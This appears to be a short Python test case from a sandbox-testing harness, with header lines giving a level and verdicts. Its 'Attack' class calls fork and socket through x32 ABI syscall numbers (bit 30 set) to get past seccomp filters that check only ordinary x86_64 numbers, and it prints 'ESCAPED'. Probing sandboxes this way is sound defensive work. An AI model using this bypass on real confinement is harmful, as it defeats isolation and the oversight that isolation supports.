# It makes system calls by their x32 numbers, which are the usual ones plus one bit.
# level: L2S
# verdicts: passed refused passed
# machine: x86_64

import ctypes


class Attack(Honest):
    def strike(self, parent, child):
        libc = ctypes.CDLL(None, use_errno=True)
        # fork and socket, with bit 30 set
        for number in (57, 41):
            print("ESCAPED: x32", libc.syscall(0x40000000 | number, 2, 1, 0))
